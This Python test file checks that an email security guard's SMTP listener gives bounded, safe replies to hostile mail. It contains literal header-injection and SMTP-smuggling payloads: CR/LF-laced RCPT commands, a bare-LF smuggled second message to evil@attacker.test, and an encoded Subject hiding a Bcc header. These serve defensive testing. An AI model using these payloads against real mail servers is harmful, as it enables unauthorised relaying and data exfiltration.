"""Hostile mail through the real SMTP listener: bombs, PDF loops, deep and wide MIME, huge
bodies, header injection and SMTP smuggling.

Every message gets a definite reply (held, refused, relayed after inspection, or a 4xx) within
a bounded time, the guard process's peak memory stays bounded, and while one expensive message
is being inspected the guard keeps answering everyone else.
"""

from __future__ import annotations

import asyncio
import time
from pathlib import Path

import aiohttp
import pytest

from guard.testing import SmtpSink, build_message
from tests.reliability.conftest import GuardFactory
from tests.reliability.evasion_cases import attachment_mail
from tests.reliability.hostile_mail import HOSTILE_MAIL, pdf_padded_text
from tests.reliability.relkit import EXTERNAL, SENDER, GuardProcess, new_tag, sink_tags, smtp_attempt
from tests.reliability.sensitive_samples import CARD

REPLY_BOUND_S = 20.0
PEAK_RSS_BOUND_MIB = 900


def _peak_kib(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1])
    return 0


def _verdict(outcome: str, code: int, text: str) -> str:
    if outcome == "acked":
        return "held" if "Held for security review" in text else "relayed"
    return {"tempfail": "tempfail", "refused": "refused"}.get(outcome, outcome)


@pytest.mark.slow
async def test_hostile_mail_gets_a_definite_reply_in_bounded_time_and_memory(
    tmp_path: Path, sink: SmtpSink
) -> None:
    guard = GuardProcess(tmp_path / "guard", {"smtp": {"upstream": sink.url}})
    await guard.start()
    base = _peak_kib(guard.pid)
    rows = []
    try:
        for name, (build, allowed) in HOSTILE_MAIL.items():
            raw = await asyncio.to_thread(build)
            t0 = time.monotonic()
            attempt = await smtp_attempt(
                guard.smtp_port, raw, tag=name, kind="hostile", rcpts=[EXTERNAL], timeout=60
            )
            seconds = time.monotonic() - t0
            verdict = _verdict(attempt.outcome, attempt.code, attempt.text)
            peak = _peak_kib(guard.pid) // 1024
            rows.append((name, len(raw), verdict, attempt.code, round(seconds, 2), peak))
            assert verdict in allowed, (name, attempt)
            assert seconds < REPLY_BOUND_S, (name, seconds)
        rc = await guard.terminate()
    finally:
        await guard.stop()
    assert rc == 0 and guard.tracebacks() == []
    for name, size, verdict, code, seconds, peak in rows:
        print(
            f"\nHOSTILE smtp/{name}: {size // 1024} KiB -> {verdict} ({code}) in {seconds}s, "
            f"guard peak RSS {peak} MiB"
        )
    assert max(r[5] for r in rows) < PEAK_RSS_BOUND_MIB, rows
    print(f"\nHOSTILE smtp: baseline peak RSS {base // 1024} MiB")


@pytest.mark.slow
async def test_an_expensive_message_does_not_stall_everyone_else(tmp_path: Path, sink: SmtpSink) -> None:
    """A 100 KiB mail whose PDF takes seconds to read is inspected off the event loop: other
    clients, webhooks and health checks are answered meanwhile."""
    guard = GuardProcess(tmp_path / "guard", {"smtp": {"upstream": sink.url}})
    await guard.start()
    try:
        heavy = await asyncio.to_thread(
            attachment_mail, "statement.pdf", pdf_padded_text(60), "application", "pdf"
        )
        assert len(heavy) < 256 * 1024  # small: below the size that alone sends it to a thread
        slow = asyncio.create_task(
            smtp_attempt(guard.smtp_port, heavy, tag="heavy", kind="card", rcpts=[EXTERNAL], timeout=90)
        )
        await asyncio.sleep(0.5)  # inspection of the heavy one is under way
        tag = new_tag()

        async def light_mail() -> tuple[object, float]:
            t0 = time.monotonic()
            got = await smtp_attempt(
                guard.smtp_port,
                build_message(to=EXTERNAL, headers={"X-Test-Id": tag}),
                tag=tag,
                kind="clean",
                rcpts=[EXTERNAL],
                timeout=30,
            )
            return got, time.monotonic() - t0

        async def healthz() -> tuple[int, float]:
            t0 = time.monotonic()
            async with (
                aiohttp.ClientSession() as http,
                http.get(
                    f"http://127.0.0.1:{guard.http_port}/healthz", timeout=aiohttp.ClientTimeout(total=30)
                ) as resp,
            ):
                return resp.status, time.monotonic() - t0

        (light, light_s), (health, health_s) = await asyncio.gather(light_mail(), healthz())
        heavy_attempt = await slow
    finally:
        await guard.stop()
    print(
        f"\nHOSTILE smtp/expensive-pdf: heavy -> {heavy_attempt.code} in {heavy_attempt.seconds:.1f}s; "
        f"meanwhile a clean mail took {light_s:.2f}s and /healthz {health_s:.2f}s"
    )
    assert light.outcome == "acked" and sink_tags(sink.messages)[tag] == 1  # type: ignore[attr-defined]
    assert health == 200
    assert light_s < 3.0 and health_s < 3.0, (light_s, health_s)
    assert heavy_attempt.code in (250, 451) and "heavy" not in sink_tags(sink.messages)


# -- header injection and smuggling -------------------------------------------------------------------
async def _dialogue(port: int, chunks: list[bytes]) -> list[bytes]:
    """Send raw protocol bytes (one write per chunk) and collect every reply line that comes
    back within a short quiet period after each write."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    replies = [await reader.readline()]
    try:
        for chunk in chunks:
            writer.write(chunk)
            await writer.drain()
            while True:
                try:
                    line = await asyncio.wait_for(reader.readline(), 0.2)
                except TimeoutError:
                    break
                if not line:
                    return replies
                replies.append(line)
    finally:
        writer.close()
    return replies


async def test_crlf_and_bare_cr_lf_in_envelope_addresses_inject_nothing(
    start_guard: GuardFactory, sink: SmtpSink
) -> None:
    guard = await start_guard(smtp={"upstream": sink.url}, http={"enabled": False})
    tries = [
        b"RCPT TO:<bob@partner.net>\rRCPT TO:<evil@attacker.test>\r\n",
        b"RCPT TO:<bob@partner.net\nBcc: evil@attacker.test>\r\n",
        b"RCPT TO:<carol@example.com>\nRCPT TO:<evil@attacker.test>\r\n",
        b"MAIL FROM:<a@example.com>\rX-Injected: 1\r\n",
    ]
    transcript = []
    for bad in tries:
        prefix = [b"EHLO client.test\r\n"]
        if bad.startswith(b"RCPT"):
            prefix.append(b"MAIL FROM:<alice@example.com>\r\n")
        replies = await _dialogue(
            guard.smtp_port, [*prefix, bad, b"DATA\r\n", b"Subject: x\r\n\r\nhi\r\n.\r\n", b"QUIT\r\n"]
        )
        transcript.append(b" ".join(r[:3] for r in replies[1:]))
    # A bare LF ends a command line (as in Postfix), so "\n RCPT TO:<x>" is simply a second
    # command from the same client; a bare CR inside a command is a syntax error. Either way no
    # address with CR/LF in it and no header reach the upstream.
    rcpts = {r for m in sink.messages for r in m.rcpt_tos}
    assert not any("\r" in r or "\n" in r or ">" in r for r in rcpts), rcpts
    assert not any(b"X-Injected" in m.content or b"\nBcc:" in m.content for m in sink.messages)
    assert b"501" in transcript[0] and b"501" in transcript[3]  # bare CR: refused
    codes = [t.decode() for t in transcript]
    print(f"\nHOSTILE smtp/envelope-crlf: {codes}; upstream recipients {sorted(rcpts) or 'none'}")


async def test_smtp_smuggling_does_not_split_one_message_into_two(
    start_guard: GuardFactory, sink: SmtpSink
) -> None:
    """Bare-LF end-of-data sequences inside DATA do not end it: the 'smuggled' second message
    (with a card, to another recipient) is part of the first and is inspected with it."""
    guard = await start_guard(smtp={"upstream": sink.url}, http={"enabled": False})
    smuggled = (
        b"Subject: hello\r\n\r\nhi\r\n"
        b"\n.\nMAIL FROM:<alice@example.com>\nRCPT TO:<evil@attacker.test>\nDATA\n"
        b"Subject: smuggled\n\ncard " + CARD.encode() + b"\n"
        b"\r.\rMAIL FROM:<alice@example.com>\rRCPT TO:<evil@attacker.test>\rDATA\r"
        b"\r\n.\r\n"
    )
    replies = await _dialogue(
        guard.smtp_port,
        [
            b"EHLO c\r\n",
            b"MAIL FROM:<alice@example.com>\r\n",
            b"RCPT TO:<bob@partner.net>\r\n",
            b"DATA\r\n",
            smuggled,
            b"QUIT\r\n",
        ],
    )
    final = replies[-2]
    assert final.startswith(b"250 2.6.0 Held"), replies  # one message, held for the card in it
    assert sink.messages == []
    assert not any(b"evil@attacker.test" in r for r in replies)
    [item] = await guard.services.store.list()
    assert item.recipients == (EXTERNAL,)
    print(f"\nHOSTILE smtp/smuggling: one message, {final[:40]!r}")


async def test_encoded_crlf_in_subject_stays_inside_the_header(
    start_guard: GuardFactory, sink: SmtpSink
) -> None:
    """An RFC 2047 word decoding to CR LF + "Bcc:" neither adds a recipient nor a header line in
    what is relayed, held or shown; the card in it is found."""
    guard = await start_guard(smtp={"upstream": sink.url}, http={"enabled": False})
    raw = (
        f"From: {SENDER}\r\nTo: {EXTERNAL}\r\n"
        "Subject: =?utf-8?q?refund=0D=0ABcc:_evil@attacker.test=0D=0A=0D=0Acard_4111_1111_1111_1111?=\r\n"
        "\r\nhello\r\n"
    ).encode()
    held = await smtp_attempt(guard.smtp_port, raw, tag="s1", kind="card", rcpts=[EXTERNAL])
    clean = raw.replace(b"card_4111_1111_1111_1111", b"thanks")
    relayed = await smtp_attempt(guard.smtp_port, clean, tag="s2", kind="clean", rcpts=[EXTERNAL])
    assert held.outcome == "acked" and "CREDIT_CARD" in held.text
    assert relayed.outcome == "acked"
    [got] = sink.messages
    assert got.rcpt_tos == (EXTERNAL,) and b"\r\nBcc:" not in got.content
    [item] = await guard.services.store.list()
    assert "\r" not in item.subject and "\n" not in item.subject and CARD not in item.subject
